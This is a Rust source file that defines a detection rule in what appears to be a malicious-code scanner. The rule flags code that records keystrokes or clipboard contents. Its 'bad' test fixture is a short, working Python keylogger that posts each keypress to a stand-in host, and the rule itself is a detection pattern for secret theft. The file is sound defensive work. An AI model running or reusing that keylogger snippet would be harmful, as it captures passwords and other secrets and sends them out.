//! What a person types, copies or sees is taken.

use crate::facts::What;
use crate::finding::Category;
use crate::finding::Confidence;
use crate::finding::Severity;
use crate::model::Model;
use crate::rules::Hits;
use crate::rules::Rule;

pub(super) static RULE: Rule = Rule {
    id: "spies-on-person",
    category: Category::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    title: "Watches what the person types or copies",
    why: "Passwords and addresses of wallets go through the keyboard and the clipboard.",
    help: "do not run it",
    bad: &[&[("scripts/x.py", "from pynput.keyboard import Listener\nimport requests\ndef on_press(key):\n    requests.post('https://a.example.net/k', data=str(key))\nListener(on_press=on_press).start()\n")]],
    good: &[&[("scripts/x.py", "import pyperclip\npyperclip.copy(report)\n")]],
    check,
};

fn check(model: &Model<'_>, hits: &mut Hits) {
    for fact in model.meant() {
        if let What::Spies(what) = fact.what {
            hits.fact(fact, Severity::High, Confidence::Medium, what);
        }
    }
}
